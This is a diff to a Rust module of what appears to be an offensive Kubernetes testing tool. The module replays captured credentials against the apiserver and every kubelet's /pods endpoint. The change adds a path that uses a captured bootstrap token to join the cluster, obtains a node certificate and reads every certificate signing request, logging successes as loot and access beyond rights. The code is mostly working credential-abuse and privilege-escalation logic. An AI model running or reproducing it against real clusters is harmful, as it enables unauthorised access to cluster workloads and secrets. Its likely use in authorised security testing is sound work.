@@ -1,8 +1,10 @@
 //! What was captured is used: at the apiserver, and at every kubelet.
 
+use super::join;
+use crate::holdings::{Held, Secret};
 use crate::notes::Notes;
 use crate::speak::{Answer, Request, ask};
-use crate::target::{Ask, Speaks, Target};
+use crate::target::{Ask, Speaks, Target, TokenShape};
 use ravelin_oracle::GainKind;
 use ravelin_pki::Identity;
 use ravelin_transport::TlsError;
@@ -25,6 +27,16 @@ pub struct Shown<'a> {
     pub token: Option<&'a str>,
     /// A certificate.
     pub identity: Option<Identity>,
+}
+
+impl<'a> Shown<'a> {
+    /// One credential.
+    pub fn of(secret: &'a Secret) -> Self {
+        match secret {
+            Secret::Token(token) => Self { token: Some(token), identity: None },
+            Secret::Certificate(identity) => Self { token: None, identity: Some(identity.clone()) },
+        }
+    }
 }
 
 /// Makes one request of the attacker's own.
@@ -63,31 +75,47 @@ pub fn for_ask(ask: &Ask, to: SocketAddr) -> Request {
     request
 }
 
-/// Uses every captured token wherever a token is taken.
+/// Uses every credential that was captured in this attempt, wherever one is taken: at the
+/// apiserver, at every kubelet; with a bootstrap token it joins the cluster first.
 pub async fn spend(notes: &Notes<'_>, target: &Target) {
     for token in notes.tokens() {
-        let at_apiserver = (target.apiserver, target.apiserver_ask.clone());
-        let pods = Ask::get("/pods", "the node's pods");
-        let at_kubelets = target.kubelets.iter().map(|kubelet| (*kubelet, pods.clone()));
-        for (to, wanted) in std::iter::once(at_apiserver).chain(at_kubelets) {
-            spend_one(notes, &token, to, &wanted).await;
+        if let TokenShape::Bootstrap { .. } = TokenShape::of(&token)
+            && let Some(identity) = join::join(notes, target, &token).await
+        {
+            let what = "the certificate that a captured bootstrap token brought".to_owned();
+            use_everywhere(notes, target, &Held { what, secret: Secret::Certificate(identity) }).await;
         }
+        let held = Held { what: "a captured token".to_owned(), secret: Secret::Token(token) };
+        use_everywhere(notes, target, &held).await;
     }
 }
 
-async fn spend_one(notes: &Notes<'_>, token: &str, to: SocketAddr, wanted: &Ask) {
+async fn use_everywhere(notes: &Notes<'_>, target: &Target, held: &Held) {
+    notes.field().loot().add(held.clone());
+    let at_apiserver = match held.secret {
+        Secret::Token(_) => target.apiserver_ask.clone(),
+        // A node sees the requests of all others (the node authorizer's rules).
+        Secret::Certificate(_) => Ask::get(join::REQUESTS, "every signing request"),
+    };
+    let pods = Ask::get("/pods", "the node's pods");
+    let at_kubelets = target.kubelets.iter().map(|kubelet| (*kubelet, pods.clone()));
+    for (to, wanted) in std::iter::once((target.apiserver, at_apiserver)).chain(at_kubelets) {
+        spend_one(notes, held, (to, &wanted)).await;
+    }
+}
+
+async fn spend_one(notes: &Notes<'_>, held: &Held, (to, wanted): (SocketAddr, &Ask)) {
     let flow = notes.field().flow(to);
     let anonymous = request(notes, to, Speaks::Https, (for_ask(wanted, to), Shown::default())).await;
-    let shown = Shown { token: Some(token), identity: None };
-    let answer = request(notes, to, Speaks::Https, (for_ask(wanted, to), shown)).await;
-    match (answer, anonymous) {
+    let asked = (for_ask(wanted, to), Shown::of(&held.secret));
+    match (request(notes, to, Speaks::Https, asked).await, anonymous) {
         (Ok(answer), Ok(anonymous)) if answer.granted() && !anonymous.granted() => {
             notes.learned(&flow, answer.body);
-            notes.gained(&flow, GainKind::CredentialUsed, "used a captured token with success");
-            let text = format!("read {} with a captured token", wanted.what);
+            notes.gained(&flow, GainKind::CredentialUsed, format!("used {} with success", held.what));
+            let text = format!("read {} with {}", wanted.what, held.what);
             notes.gained(&flow, GainKind::BeyondRights, text);
         }
-        (Ok(answer), _) => notes.tell(format!("{flow}: the captured token was answered {}", answer.status)),
-        (Err(_), _) => notes.tell(format!("{flow}: the captured token was not answered")),
+        (Ok(answer), _) => notes.tell(format!("{flow}: {} was answered {}", held.what, answer.status)),
+        (Err(_), _) => notes.tell(format!("{flow}: {} was not answered", held.what)),
     }
 }
